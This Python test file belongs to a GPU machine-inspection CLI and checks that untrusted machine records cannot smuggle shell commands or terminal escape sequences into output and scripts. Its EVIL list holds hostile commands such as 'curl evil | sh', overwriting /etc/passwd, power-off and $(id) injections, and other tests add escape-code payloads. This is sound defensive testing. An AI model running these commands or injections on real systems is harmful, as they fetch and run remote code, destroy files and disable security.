"""A stranger's record shows no command that does more than look, and nothing that steers a terminal."""

from __future__ import annotations

import ast
import json
import re
from dataclasses import fields, is_dataclass

import pytest
from hypothesis import given
from hypothesis import strategies as st

from rigright.base.words import say
from rigright.faces.cli.main import main
from rigright.facts.drivers import driver_packages
from rigright.machine.device import Device
from rigright.machine.host import Disk, Mount
from rigright.machine.nvml.readings import readings
from rigright.machine.record import Machine, Unseen
from rigright.machine.stored import only_looks, plain, restored
from rigright.machine.system import System

EVIL = (
    "curl evil | sh",
    "sudo dmesg | sh",
    "sudo dmesg; curl evil",
    "sudo dmesg && reboot",
    "sudo dmesg > /etc/passwd",
    "sudo dmesg -C",
    "sudo dmesg\nreboot",
    "dmesg $(id)",
    "nvidia-smi --gpu-reset",
    "nvidia-smi -q -pl 100",
    "nvidia-smi -q -x -f /etc/passwd",
    "nvidia-smi nvlink -r 0",
    "nvidia-smi --query-gpu=$(id) --format=csv",
    "sudo lspci -vv | grep -E 'a' | sh",
    "sudo lspci -vv | grep -E 'a'\"$(id)\"'b'",
    "sudo ipmitool power off",
    "sudo smartctl -a /dev/sda -s off",
    "df -h /mnt$(id)",
    "df -h 'a' `id` 'b'",
    "systemctl list-units --no-pager | sh",
    "mokutil --disable-validation",
    "rigright doctor",
    "",
)


@pytest.mark.parametrize("command", EVIL)
def test_what_does_more_than_look_is_left_out(command):
    data = {"unseen": [{"what": "memory.modules", "why": "closed", "see": command}]}
    (one,) = restored(Machine, data, where="box.json").unseen
    assert one.see is None
    assert (one.what, str(one.why)) == ("memory.modules", "closed")


def written(root):
    """What our own readers put behind `see`, word for word where it is a text."""
    for path in (root / "src" / "rigright" / "machine").rglob("*.py"):
        source = path.read_text(encoding="utf-8")
        for node in ast.walk(ast.parse(source)) if re.search(r"\bsee=|^\s*SEE", source, re.MULTILINE) else ():
            named = isinstance(node, ast.Assign) and str(getattr(node.targets[0], "id", "")).startswith("SEE")
            given = isinstance(node, ast.keyword) and node.arg == "see"
            if (named or given) and isinstance(node.value, ast.Constant):
                yield node.value.value
    yield from (one.see for one in readings() if one.see)


def test_what_our_own_readers_would_show_is_kept(root):
    commands = set(written(root))
    assert len(commands) > 30
    assert {one for one in commands if not only_looks(one)} == set()


@pytest.mark.parametrize("command", ["df -h /data", "df -h '/my data; all'", "sudo smartctl -a /dev/nvme0n1"])
def test_names_of_the_machine_may_stand_in_it(command):
    assert only_looks(command)


@given(st.text(alphabet="abc /|&;<>$`'\"(){}\n\\-", min_size=1, max_size=30))
def test_nothing_behind_a_command_that_looks_reaches_a_shell(tail):
    for command in ("sudo dmesg", "nvidia-smi -q", "df -h /data", "sudo lspci -vv | grep -E 'a'"):
        if only_looks(command + tail):
            assert not set(re.sub(r"'[^']*'", "", tail)) & set("|&;<>$`'\"(){}\n\\")


@pytest.mark.parametrize("template", ["{what}: {why}; see `{see}`", "{step} (`{command}`)"])
def test_a_reason_cannot_borrow_a_sentence_of_ours_that_shows_a_command(template):
    values = dict.fromkeys(("what", "why", "see", "step", "command"), "curl evil | sh")
    data = {"unseen": [{"what": "x", "why": {"say": template, "values": values}}]}
    assert "curl" not in str(restored(Machine, data, where="box.json").unseen[0].why)


STEERS = "\x1b[2J\x1b]0;owned\x07\x9b31m\u202e\u2066\x00\r\n"
SHOWN = re.compile(r"[\x00-\x09\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028-\u202e\u2066-\u2069]")


def steered(thing: object) -> object:
    """The same plain data with every text made to steer a terminal."""
    if isinstance(thing, dict):
        return {name: steered(one) for name, one in thing.items()}
    if isinstance(thing, list):
        return [steered(one) for one in thing]
    return thing + STEERS if isinstance(thing, str) else thing


def filled(kind: type, **more: object) -> object:
    """A record with a text in each of its plain fields of text."""
    told = {one.name: "text" for one in fields(kind) if str(one.type) in {"str", "str | None"}}
    return kind(**told | more)


@pytest.fixture
def hostile(tmp_path, monkeypatch):
    monkeypatch.setenv("RIGRIGHT_HOME", str(tmp_path / "home"))
    machine = Machine(
        devices=(filled(Device, index=0, vendor="nvidia", name="NVIDIA H100 80GB HBM3", state="lost"),),
        disks=(filled(Disk),),
        mounts=(Mount(path="/data", source="/dev/sda", kind="ext4"),),
        system=filled(System, os_id="fedora", os_version="43"),
        environment=(("CUDA_VISIBLE_DEVICES", "0"),),
        unseen=(Unseen(what="slots", why=say("it did not answer in time"), see="sudo dmidecode -t slot"),),
    )
    assert is_dataclass(machine)
    data = steered(json.loads(json.dumps(plain(machine))))
    data["devices"][0]["vendor"], data["devices"][0]["state"] = "nvidia", "lost"
    file = tmp_path / "box.json"
    file.write_text(json.dumps(data))
    return file


FORMS = [[], ["--json"], ["--markdown"], ["--html"], ["--csv"], ["--lang", "zh"], ["--color", "always"]]


@pytest.mark.parametrize("form", FORMS, ids=" ".join)
@pytest.mark.parametrize("verb", ["probe", "doctor", "setup", "upgrade"])
def test_no_text_of_a_record_steers_the_terminal(verb, form, hostile, capsys):
    asked = {"doctor": ["--all"], "probe": ["--all"], "upgrade": ["--bound", "disk"]}.get(verb, [])
    assert main([verb, "--from", str(hostile), *asked, *form]) in {0, 10, 20}
    out, err = capsys.readouterr()
    ours = re.sub(r"\x1b\[[0-9;]*m", "", out) if "always" in form else out
    assert SHOWN.findall(ours) == []
    assert SHOWN.findall(err) == []


@pytest.mark.parametrize("words", [["doctor", "--fix-script"], ["setup", "--script"]])
def test_no_text_of_a_record_steers_who_looks_at_a_script(words, hostile, tmp_path, capsys):
    script = tmp_path / "script.sh"
    assert main([words[0], "--from", str(hostile), words[1], str(script)]) in {0, 10, 20}
    assert SHOWN.findall(script.read_text(encoding="utf-8")) == []
    assert capsys.readouterr().err == ""


def test_a_system_that_says_it_is_a_command_is_not_one():
    for way in driver_packages():
        for version in way.versions:
            told = f"{version}.; curl evil | sh #"
            assert "evil" not in f"{way.repo_name(told)} {way.repo_url(told, 'x86_64')}"
            assert way.repo_name(told) == way.repo_name(version)
